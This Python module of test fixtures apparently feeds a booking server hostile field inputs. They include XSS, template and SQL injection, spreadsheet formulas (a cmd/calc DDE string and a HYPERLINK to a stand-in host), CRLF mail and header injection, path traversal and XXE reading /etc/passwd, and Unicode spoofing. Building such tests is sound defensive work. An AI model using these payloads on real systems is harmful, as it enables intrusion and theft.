"""What people who mean harm, or come from far away, type into a field: one text for each way to act.

MARK stands in every text, so that it is found wherever it went; who evaluates SUM shows RESULT.
"""

from booking_server.domain.texts import one_line

MARK = "hx7q"
SUM, RESULT = "7919*7907", str(7919 * 7907)

TEXTS = {
    "script": f"{MARK}<script>alert(1)</script>",
    "image": f"{MARK}\"'><img src=x onerror=alert(1)>",
    "attribute": f'{MARK}" autofocus onfocus="alert(1)" style="position:fixed',
    "bare attribute": f"{MARK}' onmouseover=alert(1) x='",
    "drawing": f"{MARK}<svg/onload=alert(1)>",
    "end of text": f"{MARK}</textarea></title></style><iframe src=//e.example>",
    "comment": f"{MARK}--><!--]]><x/>",
    "address": f"javascript:alert('{MARK}')",
    "data address": f"data:text/html,{MARK}<script>alert(1)</script>",
    "template": f"{MARK}{{{{{SUM}}}}}{{%raw%}}${{{SUM}}}#{{{SUM}}}",
    "format": f"{MARK}%s%n%(x)s{{0}}{{x.__class__}}",
    "formula": f'=HYPERLINK("http://e.example/{MARK}")',
    "formula at": f"@SUM(1+1){MARK}",
    "formula plus": f"+cmd|' /C calc'!A0{MARK}",
    "formula minus": f"-1+{MARK}",
    "formula tab": f"\t={MARK}",
    "calendar": f"{MARK}\r\nATTENDEE:mailto:e@e.example\r\nBEGIN:VALARM",
    "calendar signs": f'{MARK}\\n;,:"^n\\;',
    "card": f"{MARK}\nEND:VCARD\nTEL:1",
    "mail": f"{MARK}\r\nBcc: e@e.example\r\n\r\nX-Hx: 1",
    "mail word": f"=?utf-8?q?{MARK}=0D=0ABcc:_e=40e.example?=",
    "mail address": f'{MARK}" <e@e.example>, "x',
    "header": f"{MARK}\r\nSet-Cookie: hx=1%0d%0aX-Hx:1",
    "quotes": f"{MARK}'; DROP TABLE bookings; --",
    "wildcards": f"{MARK}%_' OR '1'='1",
    "direction": f"{MARK}\u202edoc.exe\u2066x\u2069",
    "no width": f"{MARK}\u200b\u200d\ufeff\u00ad.",
    "control": f"{MARK}\x00\x01\x1b[31m\x7f\x85.",
    "no sign": f"{MARK}\ufffe\uffff.",
    "half a sign": f"{MARK}\ud800x\udfff",
    "other lines": f"{MARK}\u2028x\u2029y\x0bz\x0c",
    "long": f"{MARK}{'Ä' * 5000}",
    "right to left": f"{MARK} שלום مرحبا",
    "emoji": f"{MARK} 👩\u200d👩\u200d👧🏽🎉",
    "stacked": f"{MARK}a{chr(0x301) * 40}",
    "print": f'{MARK}#link("file:///etc/passwd")[$x$] @page{{size:1px}} url(file:///etc/passwd)',
    "entity": f"{MARK}&lt;b&gt;&amp;&#x22;&x;",
    "xml": f'{MARK}]]><x/><!ENTITY a SYSTEM "file:///etc/passwd">',
    "path": f"../../{MARK}/..\\..\\etc/passwd",
    "json": f'{MARK}"}},{{"a":"\\u0000',
    "log": f"{MARK}\n127.0.0.1 GET / 200",
}

ALL_AT_ONCE = f"=\"'>{MARK}<svg onload=x></title>{{{{{SUM}}}}};,\\n%s]]>--&lt;"
"""For a look at every place when there is no time for every text."""

LONGEST_NAME = 60
"""Of the fields that take a name the one of a program with a key is the shortest."""


def stored(text: str) -> str:
    """Return what is left of a text in a field that takes a name."""
    return one_line(text)[:LONGEST_NAME].strip()
